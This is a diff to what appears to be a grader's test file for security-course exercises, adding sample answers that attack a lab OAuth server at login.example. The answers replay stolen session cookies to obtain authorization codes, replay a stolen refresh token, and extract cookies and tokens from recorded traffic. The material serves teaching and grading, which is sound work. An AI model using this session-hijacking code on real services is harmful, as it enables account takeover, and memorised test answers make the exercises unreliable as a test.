@@ -110,6 +110,24 @@ def answer(browser, cookie):
     form["client_id"], form["code_verifier"] = "notes", VERIFIER
     return browser.post(LOGIN + "/token", data=form)
 """,
+        *[
+            """
+def answer(browser, cookie):
+    SEND
+    code = query(response.headers["location"]).get("code")
+    if not code:
+        return response
+    return browser.post(LOGIN + "/token", data={
+        "grant_type": "authorization_code", "client_id": "notes", "code": code,
+        "redirect_uri": NOTES + "/cb", "code_verifier": VERIFIER})
+""".replace("SEND", send)
+            for send in (
+                "response = browser.get(LOGIN + '/authorize', params=SILENT_REQUEST, "
+                "cookies={'session': cookie})",
+                "browser.cookies.set('session', cookie, domain='login.example')\n"
+                "    response = browser.get(LOGIN + '/authorize', params=SILENT_REQUEST)",
+            )
+        ],
     ],
     "06-4": [
         """
@@ -188,6 +206,22 @@ def answer(recording):
     return stolen
 """
         ],
+        "no cookie there": [
+            """
+def answer(recording):
+    stolen = {}
+    for entry in recording:
+        if entry["host"] == "login.example":
+            stolen["session cookie"] = entry["cookies"].get("session")
+        given = entry["answer"]
+        if "refresh_token" in given:
+            stolen.update({name.replace("_", " "): given[name]
+                           for name in ("access_token", "refresh_token")})
+        elif "access_token" in given:
+            stolen["service token"] = given["access_token"]
+    return stolen
+"""
+        ],
         "host": [
             """
 def answer(recording):
@@ -211,7 +245,37 @@ def answer(recording):
             )
         ],
     },
+    "06-2": {
+        "given": [
+            """
+stolen = {"refresh token": "the one of the cell above"}
+def answer(browser, token):
+    form = {"grant_type": "refresh_token", "client_id": "notes"}
+    form["refresh_token"] = stolen["refresh token"]
+    return browser.post(LOGIN + "/token", data=form)
+"""
+        ],
+    },
     "06-3": {
+        "given": [
+            """
+stolen = {"session cookie": "the one of the cell above"}
+def answer(browser, cookie):
+    header = {"cookie": "session=" + stolen["session cookie"]}
+    landed = browser.get(LOGIN + "/authorize", params=SILENT_REQUEST, headers=header)
+    return landed
+"""
+        ],
+        "followed": [
+            """
+def answer(browser, cookie):
+    header = {"cookie": "session=" + cookie}
+    landed = browser.get(LOGIN + "/authorize", params=SILENT_REQUEST, headers=header,
+                         follow_redirects=True)
+    code = query(landed.headers["location"])["code"]
+    return browser.post(LOGIN + "/token", data={"code": code})
+"""
+        ],
         "no question": [
             """
 def answer(browser, cookie):
